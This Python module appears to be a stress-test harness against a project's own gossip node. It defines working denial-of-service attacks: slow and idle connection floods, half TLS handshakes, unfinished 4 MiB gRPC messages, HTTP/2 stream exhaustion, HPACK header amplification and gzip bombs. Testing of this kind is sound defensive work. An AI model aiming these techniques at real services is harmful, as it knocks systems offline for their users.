"""Connections, streams and bytes that are held and never used."""

from __future__ import annotations

import ssl
import zlib
from collections.abc import Iterator

import trio
from hpack import Encoder

from attacks import frames
from attacks.attack import Attacks, Scene
from attacks.clusters import Kind
from attacks.ways.on_frames import REPAIR, again_and_again
from gossipnode.wire import services

ATTACKS = Attacks()

CONNECTS = 520
MIB = 1 << 20


async def _hold(scene: Scene, connects: int, greeting: bytes, hosts: int) -> None:
    """Open connections and hold them; what the node closes is opened again."""

    async def one(number: int) -> None:
        while True:
            try:
                attacker = await scene.target.open(greeting, from_host=f"127.0.0.{2 + number % hosts}")
            except OSError:
                await trio.sleep(0.2)
                continue
            await attacker.wait_closed()
            await trio.sleep(0.2)

    async with trio.open_nursery() as nursery:
        for number in range(connects):
            nursery.start_soon(one, number)


@ATTACKS.add("520 idle connections from one address")
async def idle_connections(scene: Scene) -> None:
    await _hold(scene, CONNECTS, frames.GREETING, 1)


@ATTACKS.add("520 idle connections from 130 addresses")
async def idle_connections_spread(scene: Scene) -> None:
    await _hold(scene, CONNECTS, frames.GREETING, 130)


@ATTACKS.add("520 connects without a word", name="bare-connects")
async def bare_connects(scene: Scene) -> None:
    await _hold(scene, CONNECTS, b"", 1)


@ATTACKS.add("520 TCP connects without a certificate, under TLS", kind=Kind.TLS)
async def bare_tls_connects(scene: Scene) -> None:
    await _hold(scene, CONNECTS, b"", 1)


@ATTACKS.add("half of a TLS handshake, 520 times from 130 addresses", kind=Kind.TLS)
async def half_tls_handshakes(scene: Scene) -> None:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        await _hold(scene, CONNECTS, outgoing.read(), 130)


@ATTACKS.add("16 connections, each with 16 messages of 4 MiB that lack their last byte")
async def unfinished_messages(scene: Scene) -> None:
    await _unfinished(scene, 16, hosts=1)


@ATTACKS.add("the same on 64 connections from as many addresses")
async def unfinished_messages_spread(scene: Scene) -> None:
    await _unfinished(scene, 64, hosts=64)


async def _unfinished(scene: Scene, connections: int, *, hosts: int) -> None:
    size = 4 * MIB - 1024
    streams = range(1, 33, 2)
    prefix = b"\0" + size.to_bytes(4, "big")
    heads = [frames.call(stream, services.NODE_APPLY.path) for stream in streams]

    async def one(number: int) -> None:
        attacker = await scene.target.open(from_host=f"127.0.0.{2 + number % hosts}")
        await attacker.send_each(heads)

        async def fill(stream: int) -> None:
            whole = frames.data_frames(stream, prefix + bytes(size - 1))
            await attacker.send_within_windows([whole])

        async with trio.open_nursery() as filling:
            for stream in streams:
                filling.start_soon(fill, stream)

    async with trio.open_nursery() as nursery:
        for number in range(connections):
            nursery.start_soon(one, number)


@ATTACKS.add("256 open streams on each of 100 connections")
async def open_streams(scene: Scene) -> None:
    opened = b"".join(frames.call(stream, REPAIR) for stream in range(1, 512, 2))
    for _ in range(100):
        attacker = await scene.target.open()
        await attacker.send(opened)


@ATTACKS.add("250 heads of 15 KiB that a block of few bytes names, on 100 connections")
async def cached_heads(scene: Scene) -> None:
    for _ in range(100):
        attacker = await scene.target.open()
        encoder = Encoder()
        fields = [(":method", "POST"), (":scheme", "http"), (":path", services.NODE_STATUS.path)]
        fields += [(":authority", "a"), ("te", "trailers"), ("content-type", "application/grpc")]
        long = [("x", "y" * 3000)]
        blocks = [encoder.encode([*fields, *long * (1 + at % 4)]) for at in range(250)]
        calls = [
            frames.frame(frames.HEADERS, frames.END_HEADERS, 2 * at + 1, block + b"\xbe" * (at % 2))
            + frames.data_frames(2 * at + 1, frames.message(b""), end=True)
            for at, block in enumerate(blocks)
        ]
        await attacker.send_each(calls)


@ATTACKS.add("messages of 20 KB that inflate to 4 MiB and more")
async def gzip_bombs(scene: Scene) -> None:
    packer = zlib.compressobj(9, wbits=31)
    bomb = packer.compress(bytes(20 * MIB)) + packer.flush()

    def storm() -> Iterator[bytes]:
        for stream in range(1, 2**31, 2):
            head = frames.call(stream, services.NODE_APPLY.path, ("grpc-encoding", "gzip"))
            yield head + frames.data_frames(stream, frames.message(bomb, compressed=True), end=True)

    await again_and_again(scene, storm, connections=4, within_windows=True)
